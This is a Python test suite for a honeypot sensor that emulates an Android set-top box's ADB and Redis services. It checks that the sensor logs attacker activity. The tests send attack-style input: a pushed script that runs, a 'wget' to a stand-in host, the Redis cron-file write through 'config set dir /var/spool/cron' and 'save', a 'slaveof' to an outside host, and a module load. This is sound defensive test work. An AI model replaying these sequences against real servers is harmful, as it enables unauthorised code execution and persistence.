"""A persona's ADB and Redis: Debian's adb and redis-cli, nmap, and what is written down of them."""

import hashlib
import os
import pathlib
import subprocess
import tempfile

from harness import LIMIT_S, Sensor, check, equal, free_port, run, wait_until

PERSONA = """
name = "box"
type = "set_top_box"
host_name = "box"
cpu = "armv7"

[adb]
ports = [5555]
properties = { "ro.product.name" = "tvbox", "ro.product.model" = "TV-1", "ro.product.device" = "tv1" }

[redis]
ports = [6379]
"""
PAYLOAD = b"#!/bin/sh\necho Komainu was here\n# " + bytes(range(256)) * 500 + b"\n"


class Adb:
    """Debian's adb with a server of its own, and a folder of its own for its keys."""

    def __init__(self, sensor):
        self.sensor = sensor
        self.environment = os.environ | {"HOME": str(sensor.folder), "ANDROID_ADB_SERVER_PORT": str(free_port())}
        self.device = f"127.0.0.1:{sensor.port(5555)}"

    def __enter__(self):
        self.run("start-server")
        return self

    def __exit__(self, *_):
        subprocess.run(["adb", "kill-server"], env=self.environment, capture_output=True, timeout=LIMIT_S, check=False)

    def run(self, *arguments, input=None):
        # The server must not hold the pipes open.
        with tempfile.TemporaryFile() as said:
            options = {"stdin": subprocess.DEVNULL} if input is None else {"input": input}
            command = ["adb", *map(str, arguments)]
            done = subprocess.run(command, env=self.environment, stdout=said, stderr=said, timeout=LIMIT_S, **options)
            said.seek(0)
            text = said.read()
        equal(done.returncode, 0, (command, text))
        return text


def last(sensor, app_proto):
    def look():
        lines = [line for line in sensor.lines("honeypot.json") if line["event_type"] == "honeypot"]
        return [line for line in lines if line.get("app_proto") == app_proto and line["honeypot"]["bytes_toserver"] > 200]

    return wait_until(f"a session of {app_proto}", look)[-1]["honeypot"]


@check
def adb(sensor):
    local, back = sensor.folder / "x.sh", sensor.folder / "x.back"
    local.write_bytes(PAYLOAD)
    with Adb(sensor) as client:
        equal(b"connected to" in client.run("connect", client.device), True)
        device = ["-s", client.device]
        equal(b"model:TV_1" in client.run("devices", "-l") or b"model:TV-1" in client.run("devices", "-l"), True)
        equal(client.run(*device, "shell", "id").startswith(b"uid=0(root) gid=0(root)"), True)
        equal(client.run(*device, "exec-out", "echo", "a"), b"a\n")
        client.run(*device, "push", local, "/data/local/tmp/x.sh")
        client.run(*device, "pull", "/data/local/tmp/x.sh", back)
        equal(back.read_bytes() == PAYLOAD, True, "the file comes back as it went")
        equal(b"x.sh" in client.run(*device, "ls", "/data/local/tmp"), True)
        client.run(*device, "shell", "chmod 755 /data/local/tmp/x.sh; cd /data/local/tmp && ./x.sh; wget http://192.0.2.9/a")
        equal(b"# " in client.run(*device, "shell", input=b"pwd\nexit\n"), True)
        client.run("disconnect", client.device)
    summary = last(sensor, "adb")
    sha256 = hashlib.sha256(PAYLOAD).hexdigest()
    artifacts = [(x["name"], x["via"], x["sha256"]) for x in summary["artifacts"]]
    equal(artifacts, [("/data/local/tmp/x.sh", "adb_push", sha256)])
    equal(sensor.artifact(sha256) == PAYLOAD, True)
    equal(summary["runs"][0]["path"], "/data/local/tmp/x.sh")
    lines = [one["line"] for one in summary["commands"]]
    equal("id" in lines and "pwd" in lines, True, lines)
    equal(summary["urls"][0]["url"], "http://192.0.2.9/a")


def redis_cli(sensor, *arguments, input=None):
    command = ["redis-cli", "-p", str(sensor.port(6379)), *arguments]
    options = {"stdin": subprocess.DEVNULL} if input is None else {"input": input}
    return subprocess.run(command, capture_output=True, text=True, timeout=LIMIT_S, check=True, **options).stdout


@check
def redis(sensor):
    equal(redis_cli(sensor, "ping"), "PONG\n")
    equal("redis_version:5.0.7" in redis_cli(sensor, "info"), True)
    equal("unknown command" in redis_cli(sensor, "xyzzy"), True)
    said = redis_cli(
        sensor,
        input="flushall\nset x \"\\n\\n*/1 * * * * echo komainu\\n\\n\"\nget x\nconfig set dir /var/spool/cron\n"
        "config set dbfilename root\nconfig get dir\nsave\nslaveof 192.0.2.9 6379\nmodule load /tmp/x.so\n"
        "eval \"return 1\" 0\nkeys *\n" + "echo padding\n" * 10,
    )
    equal([word in said for word in ("/var/spool/cron", "*/1 * * * * echo komainu")], [True, True], said)
    summary = last(sensor, "redis")
    contents = b"\n\n*/1 * * * * echo komainu\n\n\n"
    artifact = summary["artifacts"][-1]
    equal((artifact["name"], artifact["via"]), ("/var/spool/cron/root", "redis_save"))
    equal(sensor.artifact(hashlib.sha256(contents).hexdigest()), contents)
    equal({"scheduled", "replica_of", "loaded_module"} <= set(summary["notes"]), True, summary["notes"])


@check
def nmap_knows_redis(sensor):
    port = str(sensor.port(6379))
    command = ["nmap", "-Pn", "-sV", "-p", port, "--script", "+redis-info", "127.0.0.1"]
    said = subprocess.run(command, capture_output=True, text=True, timeout=120, check=True).stdout
    equal("Redis key-value store 5.0.7" in said, True, said)


folder = pathlib.Path(tempfile.mkdtemp(prefix="komainu-persona-"))
(folder / "box.toml").write_text(PERSONA)
run(Sensor, persona=str(folder / "box.toml"), configuration='[sensor]\nid = "check"\n')
